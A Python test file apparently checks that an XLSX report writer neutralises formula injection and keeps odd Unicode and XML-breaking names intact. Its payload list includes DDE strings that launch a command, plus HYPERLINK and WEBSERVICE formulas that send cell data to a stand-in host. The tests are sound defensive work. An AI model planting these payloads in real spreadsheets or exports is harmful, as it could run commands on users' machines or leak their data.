"""Can a text typed by somebody become a formula, break the file or disappear?"""

from io import BytesIO
from itertools import chain, repeat
from zipfile import ZipFile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from clauses.domain.formulas import disarmed, looks_like_formula, rearmed
from clauses.reports import xlsx
from clauses.reports.sheet_stream import CUT_MARK, MAX_TEXT, safe_text
from clauses.reports.table import Column, Kind, Report, ReportTable
from tests.reports import golden
from tests.reports.samples import report, texts, written

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://exemple.test/?"&A1;"cliquez")',
    '=WEBSERVICE("http://exemple.test/")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "\u22121+1",
    "Dupont\n=1+1",
    "Dupont\r\n@SUM(A1)",
    "{=1+1}",
    "=",
    "'=1+1",
    "#N/A",
    "#REF!",
    "=_xlfn.CONCAT(A1)",
    "0",
    "1e3",
    "TRUE",
    "2026-01-01",
)
# Among them, what only looks like a number, an error or a formula made harmless by its sender.
HARMLESS = {"{=1+1}", "'=1+1", "#N/A", "#REF!", "0", "1e3", "TRUE", "2026-01-01"}
NAMES = (
    "Élodie Lefèvre-Ñandú, Beauvais œuvre",
    "Ville de Creil 🏗️👷🏽‍♀️",
    "名前 Ωμέγα עברית",
    "a < b & c > d ]]> <!-- --> \"'",
    "</t></is></c><c><f>1+1</f></c>",
    "deux  espaces",
    "fin ",
    " début",
    "ligne 1\nligne 2",
    "tab\tulation",
)


def _both(strings: tuple[str, ...]) -> list[tuple[Report, BytesIO]]:
    """The same texts in a short table and in a long one."""
    short = report(texts(strings))
    padded = [(text,) for text in chain(strings, repeat("x", 2100))]
    long = report(ReportTable("Textes", "Textes", (Column("Texte", Kind.TEXT),), padded))
    return [(it, written(it)) for it in (short, long)]


def test_no_text_is_a_formula_anywhere() -> None:
    for it, book in _both(FORMULAS + NAMES):
        assert golden.formulas(book) == []
        with ZipFile(book) as parts:
            for name in parts.namelist():
                assert b"<f>" not in parts.read(name) and b"<f " not in parts.read(name), (it.title, name)
        sheet = load_workbook(book)["Textes"]
        for text, row in zip(FORMULAS, sheet.iter_rows(min_row=2), strict=False):
            assert row[0].data_type == "s", text
            assert row[0].value == text.replace("\r\n", "\n").replace("\r", "\n")


def test_formula_like_texts_stay_texts_when_edited() -> None:
    assert {text for text in FORMULAS if not looks_like_formula(text)} == HARMLESS
    quoted = [*FORMULAS, *(f"'{text}" for text in FORMULAS), "''", "l'insertion", ""]
    assert not any(
        looks_like_formula(disarmed(text)) and text[:1] not in "\r\n" for text in FORMULAS if "\n" not in text
    )
    assert all(rearmed(disarmed(text)) == text for text in quoted)
    for _, book in _both(FORMULAS):
        sheet = load_workbook(book)["Textes"]
        for text, row in zip(FORMULAS, sheet.iter_rows(min_row=2), strict=False):
            assert bool(row[0].quotePrefix) == (text not in HARMLESS), text


def test_everything_a_person_can_name_is_a_text() -> None:
    evil = "=cmd|' /C calc'!A0"
    table = ReportTable(
        evil,
        evil,
        (Column(evil, Kind.TEXT), Column("n", Kind.HOURS)),
        [(evil, evil)],
        note=evil,
        total=(evil, evil),
    )
    it = report(table, title=evil, reference=evil, method=((evil, evil, evil),))
    assert golden.formulas(written(it)) == []


def test_names_come_back_as_they_were() -> None:
    for _, book in _both(NAMES):
        rows = golden.values(book)["Textes"]
        assert tuple(row[0] for row in rows[1 : 1 + len(NAMES)]) == NAMES


def test_what_xml_cannot_hold_is_replaced() -> None:
    strings = ("a\x00b\x0bc\x1fd", "x\ud800y", "p\ufffeq\uffffr", "_x0041_ _x00zz_")
    for _, book in _both(strings):
        column = [row[0] for row in golden.values(book)["Textes"][1:5]]
        assert column[:3] == ["a\ufffdb\ufffdc\ufffdd", "x\ufffdy", "p\ufffdq\ufffdr"]
        with ZipFile(book) as parts:
            assert b"_x005F_x0041_ _x00zz_<" in parts.read("xl/worksheets/sheet1.xml")


def test_control_characters_in_all_that_is_not_a_cell() -> None:
    bad = "a\x00b\ud800"
    it = report(
        ReportTable(bad, bad, (Column(bad, Kind.TEXT),), [(bad,)], note=bad),
        title=bad,
        reference=bad,
        method=((bad, bad, bad),),
    )
    assert load_workbook(written(it)).sheetnames == ["a\ufffdb\ufffd", "Méthode"]


@pytest.mark.parametrize("letter", ["é", "🏗"])
def test_a_very_long_text_is_cut_with_a_mark(letter: str) -> None:
    for _, book in _both((letter * 40_000,)):
        text = golden.values(book)["Textes"][1][0]
        assert text.endswith(CUT_MARK) and text.startswith(letter * 1000)
        assert MAX_TEXT - 1 <= len(text.encode("utf-16-le")) // 2 <= MAX_TEXT
    assert safe_text("é" * MAX_TEXT) == "é" * MAX_TEXT


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(), max_size=20), max_size=8))
def test_any_text_gives_a_readable_file_with_the_same_text(strings: list[str]) -> None:
    saved, xlsx.LONG = xlsx.LONG, 3  # some of the tables pass by the stream
    try:
        book = written(report(texts(strings)))
    finally:
        xlsx.LONG = saved
    assert golden.formulas(book) == []
    rows = golden.values(book)["Textes"][1:]
    assert [row[0] for row in rows] == [safe_text(text) or None for text in strings]
